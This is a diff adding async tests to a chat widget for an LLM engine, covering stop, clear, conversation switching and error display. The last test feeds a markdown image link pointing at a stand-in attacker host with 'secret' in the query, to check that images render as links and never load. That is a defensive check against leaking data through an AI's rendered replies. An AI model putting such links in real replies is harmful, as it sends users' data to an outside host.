@@ -17,6 +17,7 @@ from llmgine.llm import (
     Completion,
     LLMDeltaEvent,
     LLMEngine,
+    PromptCommand,
     Provider,
     ScriptedProvider,
     StreamChunk,
@@ -699,3 +700,112 @@ async def test_chat_a_message_sent_while_a_picked_conversation_loads_follows_its
     assert order == sorted(order), shown
     stored = engine.conversations.get("default").messages
     assert [m.content for m in stored] == [text for _, text in expected]
+
+
+async def test_chat_stop_after_the_answer_is_kept_shows_the_whole_answer(
+    bus: MessageBus,
+) -> None:
+    # The engine answered and kept the turn; the panel still waits for the bus's events
+    # (a slow handler). Stop then is too late: the reply is shown whole, as it is kept.
+    engine = LLMEngine(bus, provider=ScriptedProvider(["The full answer: 42."]))
+    chat = ChatWidget(engine)
+    await chat.listing
+    held, gate = asyncio.Event(), asyncio.Event()
+
+    async def slow_handler(event: LLMDeltaEvent) -> None:
+        held.set()
+        await gate.wait()
+
+    bus.register_event_handler(LLMDeltaEvent, slow_handler)
+    kept, store = asyncio.Event(), engine.conversations.store
+    append_turn = store.append_turn
+
+    def append_and_tell(*args: Any) -> int:
+        turn = append_turn(*args)
+        kept.set()  # the memory store keeps the turn on the loop
+        return turn
+
+    store.append_turn = append_and_tell  # type: ignore[method-assign]
+    chat_done = chat.send("question")
+    assert chat_done is not None
+    await asyncio.wait_for(held.wait(), 10)
+    await asyncio.wait_for(kept.wait(), 10)
+    chat.stop_button.click()
+    gate.set()
+    await asyncio.wait_for(chat_done, 10)
+    assert chat.history == [("user", "question"), ("assistant", "The full answer: 42.")]
+    assert not chat.generating
+
+
+async def test_chat_clear_or_a_pick_mid_reply_leaves_nothing_of_it(bus: MessageBus) -> None:
+    gate = asyncio.Event()
+
+    class Halting(Provider):
+        name = "halting"
+
+        async def complete(self, request: Any) -> Completion:
+            raise NotImplementedError
+
+        async def stream(self, request: Any) -> Any:
+            yield StreamChunk(delta="more ")
+            await gate.wait()
+            yield StreamChunk(completion=Completion(content="more"))
+
+    engine = LLMEngine(bus, provider=Halting("h"))
+    chat = ChatWidget(engine)
+    await chat.listing
+    for leave in (chat.clear, lambda: chat.pick("other")):
+        seen = asyncio.Event()
+        bus.register_event_handler(LLMDeltaEvent, lambda e, seen=seen: seen.set())
+        task = chat.send("hello")
+        assert task is not None
+        await asyncio.wait_for(seen.wait(), 10)
+        await asyncio.wait_for(leave(), 10)
+        await asyncio.wait_for(asyncio.gather(task, return_exceptions=True), 10)
+        assert chat.history == [] and chat.costs == [] and chat.transcript.children == ()
+        assert not chat.generating and not chat.send_button.disabled
+
+
+async def test_chat_clear_while_a_picked_conversation_loads_shows_none_of_it(
+    bus: MessageBus,
+) -> None:
+    engine = LLMEngine(bus, provider=ScriptedProvider(["old reply"]))
+    chat = ChatWidget(engine)
+    await chat.send("old question")  # type: ignore[misc]
+    await chat.new_conversation("other")
+    entered, gate = asyncio.Event(), asyncio.Event()
+    aget = engine.conversations.aget
+
+    async def read_then_wait(conversation_id: str) -> Any:
+        conversation = await aget(conversation_id)  # read before the Clear
+        entered.set()
+        await gate.wait()  # shown after it
+        return conversation
+
+    engine.conversations.aget = read_then_wait  # type: ignore[method-assign]
+    loading = chat.pick("default")
+    await asyncio.wait_for(entered.wait(), 10)
+    await asyncio.wait_for(chat.clear(), 10)
+    gate.set()
+    await asyncio.wait_for(loading, 10)
+    assert chat.history == [] and chat.transcript.children == ()
+
+
+async def test_chat_shows_a_command_the_bus_refuses_as_an_error(bus: MessageBus) -> None:
+    engine = LLMEngine(bus, provider=ScriptedProvider(["never"]))
+    chat = ChatWidget(engine)
+    await chat.listing
+    bus.unregister_command_handler(PromptCommand)
+    task = chat.send("hello?")
+    assert task is not None
+    await asyncio.wait_for(task, 10)
+    assert chat.history[-1][0] == "error" and "HandlerNotFoundError" in chat.history[-1][1]
+    assert not chat.generating and not chat.send_button.disabled
+
+
+def test_markdown_in_replies_shows_images_as_links_never_loads_them() -> None:
+    from llmgine.notebook.widgets._render import markdown
+
+    rendered = markdown("![chart](https://attacker.example/p.png?d=secret)")
+    assert "<img" not in rendered
+    assert '<a href="https://attacker.example/p.png?d=secret">chart</a>' in rendered
